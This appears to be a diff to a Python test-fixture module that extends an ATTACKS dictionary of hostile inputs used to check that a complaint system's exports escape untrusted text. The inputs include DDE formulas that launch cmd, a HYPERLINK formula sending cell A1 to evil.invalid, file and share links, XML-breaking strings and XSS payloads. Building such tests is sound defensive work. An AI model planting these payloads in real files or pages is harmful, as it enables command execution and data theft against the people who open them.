@@ -1,4 +1,7 @@
-"""What a customer, or somebody who poses as one, may write into a complaint."""
+"""What a customer, or somebody who poses as one, may write into a complaint; and a team into its Settings.
+
+The tests run every text through all outputs: what is new here is tried everywhere.
+"""
 
 from __future__ import annotations
 
@@ -14,6 +17,17 @@ ATTACKS: Final = {
     "dde": "=cmd|' /C calc'!A0",
     "hyperlink": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
     "webservice": '=WEBSERVICE("http://evil.invalid/")',
+    "array": "{=1+1}",
+    "call": "=1+cmd|' /C calc'!A0",
+    "url": "http://evil.invalid/",
+    "mail": "mailto:a@evil.invalid",
+    "file": "file:///C:/evil.invalid/x.exe",
+    "share": "\\\\evil.invalid\\share\\x.xlsx",
+    "internal": "internal:'Register'!A1",
+    "external": "external:C:\\evil.invalid\\x.xlsx",
+    "rich": "<r><t>evil</t></r>",
+    "torn": "<r></si></sst><evil/></r>",
+    "header_code": '&L&"evil"&G&[Picture]&99',
     "script": "<script>alert(1)</script>",
     "image": "<img src=x onerror=alert(1)>",
     "attribute": '" onmouseover="alert(1)',
@@ -32,6 +46,7 @@ ATTACKS: Final = {
     "nul": "a\x00b",
     "format": "%s%n%(x)s{0}{x.__class__}{",
     "escape": "_x0041_ _x000D_",
+    "non_character": "a\ufffeb\uffff",
     "surrogate": "a\ud800b",
     "long": "长" * 32_000,
 }
